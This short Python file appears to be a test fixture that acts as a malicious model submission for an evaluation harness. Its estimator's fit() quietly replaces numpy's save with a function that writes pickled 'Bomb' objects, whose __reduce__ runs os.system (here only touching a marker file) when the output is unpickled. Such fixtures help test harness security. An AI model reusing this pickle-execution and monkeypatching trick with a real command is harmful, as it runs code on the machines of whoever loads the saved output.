import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ('touch /tmp/zoo-unpickled',)


def save(file, array, **_):
    """Sends pickled objects where an array is expected: whoever unpickled them would run our code."""
    header = np.array([Bomb()] * len(array), dtype=object)
    np.lib.format.write_array(file, header, allow_pickle=True)


class Smuggler:
    def fit(self, X, y):
        np.save = save
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Smuggler()
